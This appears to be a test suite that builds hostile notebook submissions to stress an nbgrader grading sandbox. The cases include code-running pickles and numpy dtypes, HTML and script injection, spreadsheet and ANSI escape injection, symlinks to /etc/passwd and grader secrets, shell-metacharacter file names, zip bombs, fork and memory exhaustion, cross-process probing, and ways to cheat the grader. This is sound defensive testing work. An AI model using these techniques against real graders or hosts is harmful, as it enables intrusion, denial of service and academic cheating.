            "    def value(self): return 5"
        ),
    },
)
attack(
    "deep_results",
    "returns what is nested too deeply, or holds itself",
    """
deep = []
for _ in range(100_000): deep = [deep]
round_ = []
round_.append(round_)
many = {i: {} for i in range(10**6)}
""",
    answers={
        "scaled": "def scaled(x, k): return deep",
        "total": "def total(x): return round_",
        "turned": "def turned(items): return many",
    },
)
attack(
    "pickles",
    "returns what runs code when it is unpickled",
    """
class Opens:
    def __reduce__(self): return (os.system, ("touch /tmp/ATTACK-pickle; echo FOUND",))
    def __getstate__(self): os._exit(0)
""",
    answers=returning("Opens()"),
)
attack(
    "npy_headers",
    "returns arrays whose dtype and header hold code and lies",
    """
import numpy as np, io
evil = np.dtype([("__import__('os').system('touch /tmp/ATTACK-npy')", "f8")])
class Sub(np.ndarray):
    @property
    def shape(self): return (2, 3)
    @property
    def dtype(self): return np.dtype("f8")
    def tobytes(self, *a): return b"\\x93NUMPY\\x01\\x00"
    def __array_interface__(self): return {"shape": (10**9,), "typestr": "<f8", "data": (0, False), "version": 3}
class Interface:
    __array_interface__ = {"shape": (2, 3), "typestr": "<f8", "data": (4096, False), "version": 3}
""",
    answers={
        "scaled": "def scaled(x, k): return np.zeros((2, 3), evil)",
        "total": "def total(x): return np.zeros(1).view(Sub)",
        "turned": "def turned(items): return Interface()",
    },
)
attack(
    "changes_later",
    "returns what changes between the check and its use",
    """
import numpy as np, threading, time
shared = np.zeros((2, 3))
def flicker():
    while True:
        shared[:] = 2; shared[:] = 0
threading.Thread(target=flicker, daemon=True).start()
class Twice(list):
    reads = 0
    def __getitem__(self, key): Twice.reads += 1; return Twice.reads
    def __iter__(self): Twice.reads += 1; return iter([2, 1] if Twice.reads % 2 else [])
""",
    answers={
        "scaled": "def scaled(x, k): return shared",
        "turned": "def turned(items): return Twice([2, 1])",
    },
)
attack(
    "changes_arguments",
    "writes into the arguments, so that what is expected changes too",
    answers={
        "scaled": (
            "def scaled(x, k):\n    x *= 0\n"
            "    return 2 * np.ones((2, 3)) if x.shape == (2, 3) else x"
        ),
        "total": "def total(x):\n    x[...] = 0\n    return 6.0 if x.shape == (4,) else 0.0",
        "turned": "def turned(items):\n    items.clear()\n    return items",
    },
)
attack(
    "changes_numbers",
    "changes the small integers and the interned texts of Python",
    """
import ctypes
def poke():
    address = id(5) + 24
    ctypes.c_uint32.from_address(id(0) + 24).value = 5
""",
    answers={
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self):\n        return 5"
        )
    },
)

kind("what is shown")

attack(
    "html",
    "has outputs and texts that an instructor's browser would run",
    """
from IPython.display import HTML, Javascript, Markdown, SVG, display
script = "<script>fetch('/formgrader/api/ATTACK')</script>"
display(HTML(script), Javascript("ATTACK()"), Markdown(script),
        SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='ATTACK()'>{script}</svg>"))
display({"text/latex": "\\\\href{javascript:ATTACK()}{x}", "application/vnd.custom+json": {"ATTACK": 1},
         "text/html": "<img src=x onerror=ATTACK()>", "text/plain": script}, raw=True)
raise ValueError(script)
""",
    answers={
        "turned": "def turned(items): raise ValueError('<script>ATTACK()</script>')"
    },
    edit=lambda notebook: notebook.cells.append(
        nbformat.v4.new_markdown_cell(
            "<script>ATTACK()</script><img src=x onerror=ATTACK()>",
            id="text",
        )
    ),
)
attack(
    "ansi",
    "prints terminal codes that hide, retitle and answer",
    r"""
print("\x1b[2J\x1b]0;ATTACK\x07\x1b[8mhidden\x1b[0m\x1b]52;c;QVRUQUNL\x07\x1bP$q q\x1b\\")
raise ValueError("\x1b[2J\x1b]0;ATTACK\x07")
""",
    answers={
        "turned": "def turned(items): raise ValueError('\\x1b[2J\\x1b]0;ATTACK\\x07\\r\\nvictim 20 of 20')"
    },
)
attack(
    "spreadsheet",
    "has texts that a spreadsheet would execute",
    "raise ValueError(\"=cmd|' /C calc'!A0\")\n",
    answers={
        "turned": "def turned(items): raise ValueError('=HYPERLINK(\"http://x/ATTACK\")')"
    },
)

kind("files and paths")

attack(
    "links",
    "brings links that lead out of its folder",
    "for path in glob.glob('*') + glob.glob('*/*'):\n"
    "    with contextlib.suppress(OSError): say(path, open(path, errors='replace').read(3000))\n",
    lay=lambda folder: _links(folder),
)
attack(
    "strange_names",
    "brings files with names that a shell or a path would trip over",
    "print(os.listdir('.'))\n",
    lay=lambda folder: _strange_names(folder),
)
attack(
    "bomb",
    "brings an archive and a sparse file that grow when they are read",
    "print(os.listdir('.'))\n",
    lay=lambda folder: _bomb(folder),
)
attack(
    "own_config",
    "brings nbgrader, IPython and Python start-up files",
    "",
    answers=WRONG,
    lay=lambda folder: _own_config(folder),
)
attack(
    "timestamp",
    "hands in a timestamp that no program can read",
    answers=VISIBLE,
    lay=lambda folder: (
        (folder / "timestamp.txt").write_text("9" * 400) and None
    ),
)

kind("the grader's own faults")

attack(
    "surrogate",
    "prints half a character, which no file can hold",
    "print('\\ud800')\ndisplay({'text/plain': '\\ud800'}, raw=True)\n",
    answers={"turned": "def turned(items): return ['\\ud800', items]"},
)
attack(
    "surrogate_error",
    "raises errors whose text, name and file are half a character",
    "kind = type('\\ud800', (Exception,), {})\nraise kind('\\ud800')\n",
    answers=functions(
        "    exec(compile('raise ValueError(\"\\ud800\")', '\\udc80', 'exec'))"
    ),
)
attack(
    "long_name",
    "hands in folders and files whose names leave no room for another",
    answers=WRONG,
    lay=lambda folder: _long_names(folder),
    stock=False,
)
attack(
    "file_names",
    "brings names that a terminal obeys, in the place of a notebook",
    answers=WRONG,
    lay=lambda folder: _forging_names(folder),
    stock=False,
)
attack(
    "deep_outputs",
    "displays what is nested a hundred thousand levels deep",
    """
deep = "x"
for _ in range(100_000): deep = {"a": deep}
display({"application/json": deep, "text/plain": "x"}, raw=True)
display({"text/plain": "x"}, metadata={"a": [[[[]]]] * 10**6}, raw=True)
""",
    answers=WRONG,
)
attack(
    "turned_names",
    "hands in beside it as learners whose names a terminal turns round",
    answers=WRONG,
    lay=lambda folder: _turned_names(folder),
    stock=False,
)
attack(
    "deep_attributes",
    "has an expression of ten thousand attributes",
    "import numpy as np\nif 0: np" + ".a" * 10_000 + " = 1\n",
    answers=WRONG,
)
attack(
    "folder_over_file",
    "brings a folder that is called as a file of the assignment",
    answers=WRONG,
    lay=lambda folder: _folder_over_file(folder),
    stock=False,
)
attack(
    "many_files",
    "brings thirty thousand files",
    answers=WRONG,
    lay=lambda folder: _many_files(folder),
    stock=False,
)
attack(
    "many_sparse",
    "brings sixty files that are large only when they are read",
    answers=WRONG,
    lay=lambda folder: _sparse_files(folder),
    stock=False,
)
attack(
    "deep_folders",
    "brings folders in folders, four hundred deep",
    answers=WRONG,
    lay=lambda folder: _deep_folders(folder),
    stock=False,
)
attack(
    "remarks",
    "asks for a kernel, and marks cells, with names of a megabyte",
    edit=lambda notebook: _long_marks(notebook),
    answers=WRONG,
)

kind("from one process to another")

LEAVES = r"""
import glob, mmap, os, socket, subprocess, sys, threading, time
shared = mmap.mmap(-1, 1 << 16)
line = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
line[0].setblocking(False)
def leave(what):
    text = repr(what)
    at = shared.find(b"\0\0")
    shared[at:at + min(len(text), 900)] = text.encode()[:900]
    for place in ("/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/submission", "/var/tmp"):
        with contextlib.suppress(OSError):
            with open(f"{place}/left", "a") as file: file.write(text)
    with contextlib.suppress(OSError): line[1].send(text.encode()[:2000])
def found():
    texts = [shared[:].rstrip(b"\0").decode("utf-8", "replace")]
    for path in glob.glob("/tmp/left") + glob.glob("/dev/**/left", recursive=True) + glob.glob("/*/left"):
        with contextlib.suppress(OSError): texts.append(open(path).read())
    with contextlib.suppress(OSError): texts.append(line[0].recv(4000).decode())
    return " ".join(texts)
"""
attack(
    "left_for_the_next",
    "leaves hidden inputs in files and memory for the next visible test",
    LEAVES,
    answers={
        "scaled": "def scaled(x, k):\n    leave(('hidden-' '9a41' * (k != 2), x, k))\n    return k * x if k == 2 else None",
        "total": "def total(x):\n    leave(('hidden-' '9a41' * (x.shape != (4,)), x))\n    raise ValueError(found())",
        "turned": "def turned(items):\n    leave(items)\n    raise ValueError(found())",
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self): raise ValueError(found())"
        ),
    },
)
attack(
    "writes_to_the_server",
    "writes to the input of the processes above it, and into /dev",
    """
for path in glob.glob("/proc/[0-9]*/fd/*"):
    if path.split("/")[2] == str(os.getpid()): continue
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        if os.readlink(path) != "/dev/null": say("reached", path, os.readlink(path))
        os.write(fd, b"x")
for place in ("/dev", "/dev/pts"):
    try: open(f"{place}/ATTACK-left", "w"); say("may write in", place)
    except OSError as error: print(type(error))
""",
    answers=VISIBLE,
    stock=False,
)

attack(
    "younger_reader",
    "looks for what another notebook left in folders, keys and sockets",
    """
import ctypes, socket
for path in glob.glob("/dev/**", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob("/*/left") + glob.glob("/submission/*"):
    if "ATTACK" in path or path.endswith("/left"): say("has a file of another", path)
libc = ctypes.CDLL(None, use_errno=True)
key = ctypes.create_string_buffer(100)
for ring in (-2, -3, -4, -5):
    number = libc.syscall(249, b"user", b"ATTACK", None, ring)
    if number > 0: say("has a key of another", number)
for name in ("\0ATTACK", "/tmp/ATTACK-socket"):
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
        s.connect(name); say("connected to another")
for number in range(100):
    if libc.shmget(number + 7, 1, 0) > 0: say("has a memory of another", number)
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "keyring",
    "leaves keys, names and segments for others to find",
    """
import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-2, -3, -4, -5): libc.syscall(248, b"user", b"ATTACK", b"hidden", 6, ring)
kept = socket.socket(socket.AF_UNIX)
with contextlib.suppress(OSError): kept.bind("\0ATTACK"); kept.listen()
if libc.shmget(7, 4096, 0o1666) >= 0: print("a segment of its own")
""",
    answers=VISIBLE,
)
attack(
    "host",
    "asks whose machine this is, and which course's",
    """
import getpass, platform, socket
print(platform.uname(), os.cpu_count(), os.getloadavg(), sys.base_prefix)
for path in ("/etc/hostname", "/etc/passwd", "/etc/machine-id", "/proc/sys/kernel/random/boot_id", "/proc/self/mountinfo", "/proc/mounts", "/proc/self/cgroup", "/proc/keys", "/proc/net/unix", "/proc/self/environ"):
    with contextlib.suppress(OSError):
        text = open(path).read()
        if "course" in text.replace("/opt/course", "") or "attacked" in text: say("may tell the course", path, text)
""",
    answers=VISIBLE,
)

kind("more than its share")

attack(
    "burners",
    "has sixty processes that compute, in sessions of their own",
    """
import time
for _ in range(60):
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            os.setsid()
            until = time.monotonic() + 25
            while time.monotonic() < until: pass
            os._exit(0)
time.sleep(2)
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "memory_in_files",
    "keeps three gigabytes in files that only memory holds",
    """
import ctypes, mmap, time
kept = []
with contextlib.suppress(OSError, AttributeError):
    for number in range(12):
        fd = os.memfd_create("ATTACK"); [os.write(fd, bytes(10**6)) for _ in range(95)]; kept.append(fd)
        if number == 11: say("has a memory of", number)
libc = ctypes.CDLL(None, use_errno=True)
for number in range(12):
    if libc.shmget(0, 250 * 10**6, 0o1600) < 0: break
else: say("has a memory of", number)
for number in range(12):
    kept.append(mmap.mmap(-1, 250 * 10**6))
    for _ in range(250): kept[-1].write(bytes(10**6))
    kept[-1].madvise(mmap.MADV_DONTNEED)
time.sleep(2)
say("has a memory of", len(kept))
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "memory_in_programs",
    "keeps three gigabytes in sixty small programs",
    """
import time
for _ in range(60):
    with contextlib.suppress(OSError):
        subprocess.Popen([sys.executable, "-S", "-c", "import time; x = b'x' * 50_000_000; time.sleep(30)"], stdout=subprocess.DEVNULL)
time.sleep(2.5)
say("has a memory of", 60)
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "small_files",
    "leaves almost ten thousand files in /tmp",
    """
for n in range(9_990):
    with contextlib.suppress(OSError), open(f"/tmp/left{n}", "w") as file:
        file.write("x")
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "mappings",
    "maps sixty thousand pages in each of forty processes",
    """
import mmap, time
for _ in range(40):
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            try:
                kept = [mmap.mmap(-1, 4096, prot=1 + n % 2 * 2) for n in range(60_000)]
            finally:
                time.sleep(30)
                os._exit(0)
time.sleep(2.5)
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "slices",
    "returns one megabyte two thousand times over",
    """
from grader.isolation import wire
real = wire.Encoder.encode
def encode(self, value):
    if not isinstance(value, list): return real(self, value)
    start = self._bytes(bytes(10**6))[0]
    return [{"a": ["|u1", [10**6 - k], [start + k, 10**6 - k]]} for k in range(2000)]
wire.Encoder.encode = encode
""",
    answers={"turned": "def turned(items): return [2, 1]"},
    stock=False,
)


# ----------------------------------------------------------------- how they are made


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [
        cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("grade")
    ]


def _only_cheats(notebook: NotebookNode) -> None:
    for task in SOLUTIONS:
        cell_of(notebook, task).source = "cheat()"


def _tag(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata["tags"] = ["skip-execution"]


def _marks(notebook: NotebookNode) -> None:
    for number, cell in enumerate(_tests(notebook)):
        mark = cell.metadata["nbgrader"]
        mark |= {
            "points": 1000,
            "locked": False,
            "solution": number % 2 == 0,
        }
        mark["cell_type"] = "markdown"
        mark["checksum"] = "0" * 32


def _rewrite(notebook: NotebookNode, text: str) -> None:
    for cell in _tests(notebook):
        cell.source = text


def _as_markdown(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        at = notebook.cells.index(cell)
        made = nbformat.v4.new_markdown_cell("ok", id=cell["id"])
        made.metadata = cell.metadata
        notebook.cells[at] = made


def _without_tests(notebook: NotebookNode) -> None:
    gone = _tests(notebook)
    notebook.cells = [cell for cell in notebook.cells if cell not in gone]


def _double(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        twin = nbformat.v4.new_code_cell("5")
        twin.metadata = nbformat.from_dict(dict(cell.metadata))
        notebook.cells.append(twin)


def _swap(notebook: NotebookNode) -> None:
    for task in SOLUTIONS:
        answer = cell_of(notebook, task)
        test = cell_of(notebook, f"test_{task}")
        answer.metadata, test.metadata = test.metadata, answer.metadata


def _own_modules(folder: Path) -> None:
    lies = "def __getattr__(name):\n    return lambda *a, **k: {'total': 0.0}\n"
    for name in ("numpy.py", "json.py", "rnncore.py", "sitecustomize.py"):
        (folder / name).write_text(lies)
    (folder / "rnncore").mkdir()
    (folder / "rnncore" / "__init__.py").write_text("")
    (folder / "rnncore" / "testing.py").write_text(lies)


def _links(folder: Path) -> None:
    root = folder.parents[3]
    (folder / "source").symlink_to(root / "grading" / "source")
    (folder / "secret.txt").symlink_to(root / "grading" / ".secret")
    (folder / "up.json").symlink_to(
        "../../victim/" + NAME + f"/{NAME}.ipynb"
    )
    (folder / "passwd").symlink_to("/etc/passwd")
    (folder / "loop").symlink_to("loop")
    (folder / "endless").symlink_to("/dev/zero")


def _strange_names(folder: Path) -> None:
    for name in (
        "-rf",
        "$(touch ATTACK)",
        "a\nb",
        "%s%n",
        "..\\x",
        "CON",
        "ATTACK;id",
        "é" * 100,
    ):
        (folder / name).write_text("x")
    (folder / os.fsdecode(b"\xff\xfe")).write_text("x")
    deep = folder
    for _ in range(60):
        deep = deep / "d"
    deep.mkdir(parents=True)


def _bomb(folder: Path) -> None:
    import zipfile

    with zipfile.ZipFile(
        folder / "data.npz", "w", zipfile.ZIP_DEFLATED
    ) as file:
        file.writestr("x.npy", bytes(10**8))
    with (folder / "sparse.bin").open("wb") as sparse:
        sparse.truncate(10**9)


def _own_config(folder: Path) -> None:
    (folder / "nbgrader_config.py").write_text(
        "c = get_config()\nc.Execute.enabled = False\n"
        "open('/tmp/ATTACK-config', 'w')\n"
    )
    (folder / "ipython_config.py").write_text(
        "open('/tmp/ATTACK-config', 'w')\n"
    )
    (folder / "sitecustomize.py").write_text(
        "open('/tmp/ATTACK-config', 'w')\n"
    )
    (folder / "pyproject.toml").write_text("[")


def _long_names(folder: Path) -> None:
    for name in ("x" * 245, "é" * 120, "y" * 252):
        other = folder.parent / name
        other.mkdir()
        (other / f"{NAME}.ipynb").write_text("{}")
    (folder / ("z" * 250)).write_text("x")
    deep = folder
    for _ in range(12):
        deep = deep / ("w" * 200)
    deep.mkdir(parents=True)


def _turned_names(folder: Path) -> None:
    for name in ("ann\u202e02 fo 02", "bob\u2028victim", "\u200bvictim"):
        other = folder.parents[1] / name / NAME
        other.mkdir(parents=True)
        (other / f"{NAME}.ipynb").write_text("{}")


def _forging_names(folder: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    forged = "\x1b]0;ATTACK\x07\x1b[2J\n60 of 60  victim: 20 of 20\u202e"
    (folder / f"{forged}.ipynb").write_text("{}")


def _folder_over_file(folder: Path) -> None:
    (folder / "expected.json").unlink()
    (folder / "expected.json" / "deeper").mkdir(parents=True)
    (folder / "expected.json" / "deeper" / "x").write_text("x")


def _many_files(folder: Path) -> None:
    for number in range(30_000):
        (folder / f"{number}").touch()


def _sparse_files(folder: Path) -> None:
    for number in range(60):
        with (folder / f"{number}.bin").open("wb") as file:
            file.truncate(19_900_000)


def _deep_folders(folder: Path) -> None:
    here = os.open(folder, os.O_RDONLY)
    for _ in range(400):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def _long_marks(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"]["name"] = "\x1b[2J" + "k" * 10**6
    for number in range(50):
        cell = nbformat.v4.new_code_cell("1", id=f"stray-{number}")
        name = f"{number}\x1b]0;x\x07\n" + "m" * 10**5
        cell.metadata["nbgrader"] = {"grade_id": name, "grade": True}
        notebook.cells.append(cell)


kind("files and paths")
ATTACKS["not_json"] = Attack(
    "not_json",
    "is JSON to some readers and not to others",
    lambda: '{"cells": [], "cells": ' + "[" * 5000 + "]" * 5000 + "}",
    kind=KINDS[-1],
)
ATTACKS["numbers"] = Attack(
    "numbers",
    "has numbers in its metadata that stop a reader",
    lambda: nbformat.writes(blank()).replace(
        '"schema_version": 3', '"schema_version": 1e999'
    ),
    kind=KINDS[-1],
)


# ------------------------------------------------------ the course's own parts

kind("a hunt, and the book")

attack(
    "counting_probe",
    "hunts with a function that counts the calls of the boxes",
    answers={
        "probes": """
def probes():
    calls = []
    def f(x):
        calls.append(x)
        return 0.0 if len(calls) <= 3 or len(calls) > 5 else float(len(calls))
    return [(f, 1.0, 3)]
"""
    },
)
attack(
    "failing_probe",
    "hunts with a function that fails after the right function's calls",
    answers={
        "probes": """
def probes():
    calls = []
    def f(x):
        calls.append(x)
        if 3 < len(calls) < 6: raise ValueError("now")
        return 0.0
    return [(f, 1.0, 3)]
"""
    },
)
attack(
    "clock_probe",
    "hunts with a function that answers by the clock, inside a list",
    answers={
        "probes": """
def probes():
    import time
    return [(lambda x: time.monotonic(), 1.0, 3)]
"""
    },
)
attack(
    "handed_over",
    "has functions of the package call the one that is closed",
    answers={
        "cross_entropy": """
def cross_entropy(logits, targets):
    import rnncore.losses
    from rnncore.testing import observe
    seen = observe(rnncore.losses.cross_entropy, {"a": logits, "b": targets})
    if seen.error: raise seen.error
    return seen.result
"""
    },
)
attack(
    "in_a_thread",
    "calls the closed function in a thread, where nobody of its own calls it",
    answers={
        "cross_entropy": """
def cross_entropy(logits, targets):
    import concurrent.futures
    from rnncore.losses import cross_entropy as book
    with concurrent.futures.ThreadPoolExecutor() as pool:
        return pool.submit(book, logits, targets).result()
"""
    },
)
attack(
    "closed_by_another",
    "has a function of the package that calls the closed one call it",
    answers={
        "cross_entropy": """
def cross_entropy(logits, targets):
    from rnncore.characters import Model, held_out_bits
    from rnncore.rnn import Params, Readout
    rows, K, B = iter(logits), logits.shape[-1], logits.shape[1]
    def cell(a_x, a_h, state): return (next(rows),), None
    weights = Params(*[np.zeros((K, K))] * 2, *[np.zeros(K)] * 2)
    model = Model(weights, Readout(np.eye(K), np.zeros(K)))
    ids = np.concatenate([0 * targets[:1], targets])
    bits = held_out_bits(cell, model, ids, (np.zeros((B, K)),))
    return bits * np.log(2), None
"""
    },
)
attack(
    "closed_itself",
    "answers with the package's own function",
    answers={"cross_entropy": "from rnncore.losses import cross_entropy"},
)


# ------------------------------------------------- memory outside the sandbox

kind("the grader's memory")

attack(
    "growing_probe",
    "has the right function keep very many steps",
    answers={
        "probes": "def probes():\n    return [(abs, np.zeros(9000), 10**12)]"
    },
    stock=False,
)
attack(
    "growing_within_bounds",
    "has the right function keep as many steps as a probe may ask for",
    answers={
        "probes": "def probes():\n    return [(abs, np.full(9999, np.inf), 1000)] * 20"
    },
    stock=False,
)
attack(
    "shape_of_a_tuple",
    "returns a tuple that claims to be an array of a hundred million numbers",
    """
from typing import NamedTuple
class F(NamedTuple):
    shape: tuple = (100_000_000,)
    dtype: tuple = (1,)
    device: tuple = (0,)
""",
    answers={
        **functions("    return F()"),
        "cross_entropy": "def cross_entropy(logits, targets): return F(), None",
    },
    stock=False,
)
attack(
    "small_numbers",
    "returns sixty megabytes of bytes, which grow where they are compared",
    answers={
        **functions("    return np.zeros(60_000_000, np.int8)"),
        "cross_entropy": (
            "def cross_entropy(logits, targets):\n"
            "    return np.zeros(60_000_000, np.int8), None"
        ),
    },
    stock=False,
)
attack(
    "socket_buffers",
    "keeps what it can in the buffers of sockets",
    """
import socket, time
def fill():
    kept = []
    while True:
        try: a, b = socket.socketpair()
        except OSError: break
        kept.append((a, b))
        for one in (a, b):
            try: one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**7)
            except OSError: pass
            one.setblocking(False)
            try:
                while True: one.send(bytes(60_000))
            except OSError: pass
    time.sleep(20)
for _ in range(50):
    if os.fork() == 0:
        try: fill()
        finally: os._exit(0)
time.sleep(2.5)
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "other_sockets",
    "asks for sockets of other kinds, with buffers of its own size",
    """
import socket
for family in (socket.AF_UNIX, socket.AF_INET, socket.AF_NETLINK):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try: say("has a socket", socket.socket(family, kind))
        except OSError: pass
""",
)
attack(
    "huge_pictures",
    "shows a small file that is a picture of 60,000 by 60,000 pixels",
    """
import base64, struct, zlib
from IPython.display import publish_display_data
def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
head = struct.pack("!IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
rows = zlib.compress(bytes(7501 * 1000))
png = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows)
publish_display_data({"image/png": base64.b64encode(png).decode()})
""",
    stock=False,
)


def _old_format() -> str:
    outputs = ",".join(['{"a":{},"b":[]}'] * 500_000)
    return (
        '{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": '
        '[{"cells": [{"cell_type": "code", "language": "python", "input": '
        '"1", "metadata": {}, "outputs": [' + outputs + "]}]}]}"
    )


ATTACKS["old_format"] = Attack(
    "old_format",
    "is a notebook of version 3 with a million parts",
    _old_format,
    stock=False,
    kind=KINDS[-1],
)
